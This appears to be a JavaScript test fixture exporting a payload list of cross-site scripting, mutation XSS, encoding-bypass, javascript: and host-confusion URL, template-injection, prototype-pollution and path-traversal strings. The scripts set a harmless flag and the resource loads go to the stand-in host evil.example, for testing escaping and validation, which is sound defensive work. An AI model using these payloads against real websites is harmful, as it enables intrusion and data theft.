/**
 * Texts that do harm if they are not escaped, validated or compared correctly. Scripts set `pwned`, and
 * resources load from evil.example; tests check both.
 */

/** Break out of the element, attribute, comment or string that they are inserted into. */
const BREAKERS = [
  "<script>pwned=1</script>",
  "</script><script>pwned=1</script>",
  "</script/x><svg onload=pwned=1>",
  "<!--<script>pwned=1",
  "<!--<script></script><script>pwned=1</script>",
  "</title><script>pwned=1</script>",
  "</style><script>pwned=1</script>",
  "</textarea><script>pwned=1</script>",
  "</noscript><script>pwned=1</script>",
  "--><script>pwned=1</script>",
  "--!><script>pwned=1</script>",
  "<!--><script>pwned=1</script>-->",
  "]]><script>pwned=1</script>",
  "<![CDATA[<script>pwned=1</script>]]>",
  '<?xml version="1.0"?><script>pwned=1</script>',
  '"><svg onload=pwned=1>',
  "'><svg onload=pwned=1>",
  "`><svg onload=pwned=1>",
  '" autofocus onfocus=pwned=1 x="',
  "' onpointerenter='pwned=1",
  '" style="inset:0;position:fixed" onmouseover="pwned=1',
  '";pwned=1;//',
  "'-(pwned=1)-'",
  '\\";pwned=1;//',
];

/** Elements that run scripts, load resources, submit data or redirect. */
const ELEMENTS = [
  "<img src=x onerror=pwned=1>",
  '<img src="x` `<script>pwned=1</script>"` `>',
  "<svg onload=pwned=1>",
  "<svg/onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><script href=//evil.example/x.js /></svg>",
  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
  "<svg><set onbegin=pwned=1 attributeName=x>",
  "<svg><foreignObject><iframe onload=pwned=1>",
  '<svg><a xlink:href="javascript:pwned=1"><text y=9>x',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='pwned=1'/>#x\">",
  '<math href="javascript:pwned=1">x</math>',
  '<math><mi//xlink:href="javascript:pwned=1">x',
  "<iframe onload=pwned=1>",
  "<iframe src=javascript:parent.pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  "<object data=javascript:pwned=1>",
  "<embed src=//evil.example/x.swf>",
  "<body onload=pwned=1>",
  "<input autofocus onfocus=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<video><source onerror=pwned=1>",
  "<audio src onerror=pwned=1>",
  "<x tabindex=1 onfocus=pwned=1>",
  "<form action=//evil.example><button>Go</button>",
  "<form id=pwned><input name=attributes>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=prefetch href=//evil.example/x>",
  "<style>@import '//evil.example/x.css'</style>",
  '<p style="background:url(//evil.example/x)">x',
  "<table background=//evil.example/x>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<a href=javascript:pwned=1>x</a>",
  "<template><script>pwned=1</script></template>",
];

/** Change their meaning when they are parsed and serialized (mutation XSS). */
const MUTATIONS = [
  "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
  '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=pwned=1>',
  "<table><td><p></table><svg onload=pwned=1>",
  '<select><template><style><!--</style><a rel="--><img src onerror=pwned=1>',
  "<scr<script>ipt>pwned=1</scr</script>ipt>",
  "<xmp><img title='</xmp><img src onerror=pwned=1>'>",
];

/** Encodings that a filter may miss. */
const SPELLINGS = [
  "&lt;script&gt;pwned=1&lt;/script&gt;",
  "&#60;svg onload=pwned=1&#62;",
  "&#x3c;svg onload=pwned=1&#x3e;",
  "&amp;lt;svg onload=pwned=1&amp;gt;",
  "%3Cscript%3Epwned=1%3C/script%3E",
  "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
  "\\x3csvg onload=pwned=1\\x3e",
  "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
  "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
  "<\u017fcript>pwned=1</\u017fcript>",
  "<script\t>pwned=1</script\t>",
  "\u202e<script>pwned=1</script>",
  "\u2066\u202e<svg onload=pwned=1>\u2069",
  "\u200b\ufeff<svg onload=pwned=1>",
  "Z\u0351\u036b\u0343<svg onload=pwned=1>\u{1f468}\u200d\u{1f680}",
  "\u0627\u0644<svg onload=pwned=1>",
];

/** URLs that run scripts, or lead to another host than they seem to. */
export const ADDRESSES = [
  "javascript:pwned=1",
  "JaVaScRiPt:pwned=1",
  "jav&#x61;script:pwned=1",
  "&#106;avascript:pwned=1",
  "javascript&colon;pwned=1",
  "java\tscript:pwned=1",
  "java&Tab;script:pwned=1",
  "java&NewLine;script:pwned=1",
  "javascript://%0apwned=1",
  "javascript%3Apwned=1",
  "feed:javascript:pwned=1",
  "view-source:javascript:pwned=1",
  "vbscript:pwned=1",
  "data:text/html,<script>parent.pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg",
  "data:image/svg+xml,<svg onload=pwned=1>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "//evil.example",
  "///evil.example",
  "\\\\evil.example",
  "/\\evil.example",
  "/\t/evil.example",
  "https:evil.example",
  "https:///evil.example",
  "https:\\\\evil.example",
  "https://steepline.example@evil.example",
  "https://evil.example\\@steepline.example",
];

/** Names and patterns with a special meaning in some language. */
const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "$& $1 $' $` $$",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is looked for
  "${pwned=1}",
  "{{constructor.constructor('pwned=1')()}}",
  "{year} {minutes} {category} {hotkey}",
  "}*{background:url(//evil.example/x)}",
  "expression(pwned=1)",
  "../../../etc/passwd",
  "%s %d %n",
  "null",
];

export const PAYLOADS = [
  ...BREAKERS,
  ...ELEMENTS,
  ...MUTATIONS,
  ...SPELLINGS,
  ...ADDRESSES,
  ...NAMES,
];
